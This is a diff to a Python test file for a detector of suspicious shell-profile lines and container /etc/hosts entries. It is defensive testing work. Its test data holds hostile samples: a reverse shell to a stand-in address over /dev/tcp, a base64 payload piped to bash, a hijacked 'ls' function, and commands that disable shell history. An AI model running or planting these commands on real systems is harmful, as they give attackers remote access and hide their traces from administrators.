@@ -353,6 +353,8 @@ def test_preload() -> None:
         ("ls() { /bin/evil; }", {"function": "ls"}),
         ("bash -i >& /dev/tcp/198.51.100.7/443 0>&1 &", {"signs": ("reverse-shell", "address")}),
         ("unset HISTFILE", {"signs": ("history",)}),
+        ("export HISTFILE=/dev/null", {"signs": ("history",)}),
+        ("HISTFILESIZE=0", {"signs": ("history",)}),
         ("PROMPT_COMMAND=x", {"preload": True}),
         ("echo 'ZWNobw==' | base64 -d | bash", {"signs": ("pipe-to-shell", "base64")}),
     ],
@@ -366,6 +368,9 @@ def test_ordinary_profiles_show_no_signs() -> None:
     for line in (
         '[ -z "$PS1" ] && return',
         "umask 022",
+        "HISTSIZE=1000",
+        "HISTCONTROL=ignoreboth",
+        "test -r ~/.dircolors",
         "PATH=/usr/bin:/bin",
         ". /etc/bash_completion",
         'if [ "$BASH" ]; then',
@@ -411,6 +416,11 @@ def test_the_engine_s_own_lines() -> None:
     ):
         (change,) = entries("/etc/hosts", DOCKER_HOSTS, DOCKER_HOSTS + line, own=("1234567890ab",))
         assert change.facts["engine"] is False
+    assert (
+        entries("/etc/hosts", b"", b"10.88.0.1 host.containers.internal host.docker.internal\n")[0].facts["engine"]
+        is True
+    )
+    assert entries("/etc/hosts", b"", b"6.6.6.6 host.docker.internal\n")[0].facts["engine"] is False
     assert entries("/etc/hosts", b"", b"6.6.6.6 1234567890ab\n", own=("web",))[0].facts["engine"] is False
 
 
